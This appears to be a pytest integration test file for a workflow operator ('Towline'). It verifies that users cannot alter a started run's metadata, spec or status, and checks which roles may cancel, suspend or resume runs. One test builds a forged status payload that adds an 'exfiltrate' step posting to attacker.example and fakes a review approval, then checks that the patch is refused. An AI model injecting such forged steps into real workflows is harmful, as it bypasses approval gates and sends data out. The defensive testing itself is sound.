"""Attacks on a run after it started: people may cancel, suspend and resume it, and change nothing else."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.integration.attacks.attack_support import (
    RUNS,
    create_as,
    gate_approval,
    gated_workflow,
    install,
    jobs_of,
    patch_as,
    refused,
    run_manifest,
)
from tests.integration.support import bind_role, get, wait_for_phase

from towline_dev.controlplane import ControlPlane
from towline_dev.install import OperatorProcess

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("policies_enforced")]


def started(cluster: ControlPlane, ns: str, name: str = "alices-run", user: str = "alice") -> dict[str, Any]:
    install(cluster, gated_workflow(ns))
    assert create_as(cluster, user, run_manifest(ns, "gated", name, user)).returncode == 0
    gate_approval(cluster, ns, name)
    run = get(cluster, RUNS, name, ns)
    assert run is not None
    return run


@pytest.mark.parametrize(("metadata", "reason"), [
    ({"labels": {"towline.dev/workflow": "other"}}, "A run's labels are set when it is created"),
    ({"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x",
                           "uid": "00000000-0000-0000-0000-000000000000"}]},
     "A run's ownerReferences are set when it is created"),
    ({"finalizers": ["example.com/keep"]}, "Only the Towline operator may change a run's finalizers"),
    ({"annotations": {"example.com/note": "hi"}}, "other annotations cannot be added, changed or removed"),
], ids=["labels", "ownerReferences", "finalizers", "annotations"])
def test_a_runner_cannot_change_a_runs_metadata(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str,
    metadata: dict[str, Any], reason: str,
) -> None:
    cluster, ns = towline_installed, team_namespace
    before = started(cluster, ns)
    for user in ("carol", "alice"):  # another runner, and the requester herself
        refused(patch_as(cluster, user, "workflowrun", "alices-run", ns, {"metadata": metadata}), reason)
    after = get(cluster, RUNS, "alices-run", ns)
    assert after is not None
    for field in ("labels", "ownerReferences", "finalizers", "annotations"):
        assert after["metadata"].get(field) == before["metadata"].get(field)


def test_a_runner_cannot_change_what_a_run_does(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    cluster, ns = towline_installed, team_namespace
    started(cluster, ns)
    refused(patch_as(cluster, "carol", "workflowrun", "alices-run", ns, {"spec": {"params": {"who": "carol"}}}),
            "spec.params is immutable")
    refused(patch_as(cluster, "carol", "workflowrun", "alices-run", ns, {"spec": {"requestedBy": "bob"}}),
            "spec.requestedBy is immutable")


def test_nobody_but_the_operator_writes_a_runs_status(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    """A run's status is what it does next (its Workflow copy) and what it did (its steps' outputs). The API
    server no longer validates the copy (status.workflowSpec is opaque: docs/benchmarks.md), so RBAC is what
    keeps it the operator's: neither a runner, nor the requester, nor the built-in `edit` role writes status."""
    cluster, ns = towline_installed, team_namespace
    before = started(cluster, ns)
    bind_role(cluster, ns, "edit", users=("bob",))  # a runner here too: the built-in role adds what it may
    forged = {"status": {"workflowSpec": {"generation": 1, "steps": [
        {"id": "exfiltrate", "action": "http.request", "with": {"url": "https://attacker.example/"}}]},
        "steps": [{"id": "review", "phase": "Succeeded", "output": {"approved": True}}]}}
    for user in ("carol", "alice", "bob"):
        result = cluster.kubectl("patch", "workflowrun", "alices-run", "-n", ns, "--subresource", "status",
                                 "--type", "merge", "-p", json.dumps(forged), user=user, check=False)
        refused(result, "forbidden")
    after = get(cluster, RUNS, "alices-run", ns)
    assert after is not None
    assert after["status"]["workflowSpec"] == before["status"]["workflowSpec"]
    assert [step["id"] for step in after["status"]["steps"]] == [step["id"] for step in before["status"]["steps"]]


def test_any_runner_may_suspend_resume_and_cancel_any_run_of_the_namespace(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, team_namespace: str
) -> None:
    """The documented choice (docs/security.md): cancel/suspend/resume is a runner's right, not the requester's."""
    cluster, ns = towline_installed, team_namespace
    started(cluster, ns)
    assert patch_as(cluster, "carol", "workflowrun", "alices-run", ns, {"spec": {"suspend": True}}).returncode == 0
    resumed = cluster.kubectl("annotate", "workflowrun", "alices-run", "-n", ns, "towline.dev/resume=r1",
                              user="carol", check=False)
    assert resumed.returncode == 0, resumed.stderr
    assert patch_as(cluster, "carol", "workflowrun", "alices-run", ns, {"spec": {"cancel": True}}).returncode == 0
    done = wait_for_phase(cluster, ns, "alices-run", {"Cancelled"})
    assert done["spec"]["cancel"] is True
    assert jobs_of(cluster, ns, "alices-run", "deploy") == []


def test_a_viewer_cannot_cancel_a_run(
    towline_operator: OperatorProcess, towline_installed: ControlPlane, namespace: str
) -> None:
    cluster, ns = towline_installed, namespace
    bind_role(cluster, ns, "towline-runner", users=("carol",))
    bind_role(cluster, ns, "towline-viewer", users=("alice",))
    started(cluster, ns, name="carols-run", user="carol")
    refused(patch_as(cluster, "alice", "workflowrun", "carols-run", ns, {"spec": {"cancel": True}}), "forbidden")
    run = get(cluster, RUNS, "carols-run", ns)
    assert run is not None and not run["spec"].get("cancel")
